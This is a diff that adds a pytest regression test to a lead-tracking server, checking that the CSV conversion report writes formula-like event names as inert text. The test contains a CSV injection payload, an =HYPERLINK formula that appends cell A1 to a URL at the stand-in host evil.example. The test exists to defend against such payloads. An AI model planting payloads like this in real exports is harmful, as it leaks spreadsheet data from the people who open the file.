@@ -272,3 +272,20 @@ def test_a_manager_pulls_back_only_their_own_calls(env: ServerEnv, team: dict[st
         "price_high",
         ["price-expensive-roi"],
     )
+
+
+def test_report_csv_writes_a_formula_as_text(
+    env: ServerEnv, team: dict[str, Any], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Found by the trust probe: an event name a manager set reached the CSV as a live
+    formula (`=HYPERLINK(…)`); a spreadsheet opening the report would have run it."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Expo")'
+    lead_at(env, "anna", 2, source=Source.EXHIBITION, event_name=hostile)
+    lead_at(env, "anna", 2, source=Source.EXHIBITION, event_name="-2+3")
+    database = env.engine.url.render_as_string(hide_password=False)
+    args = ["--database", database, "report", "conversion", "--by", "event", "--format", "csv"]
+    assert server_cli(args) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    events = {row[0] for row in rows[1:]}
+    assert "'" + hostile in events and "'-2+3" in events and "Expo A" in events
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
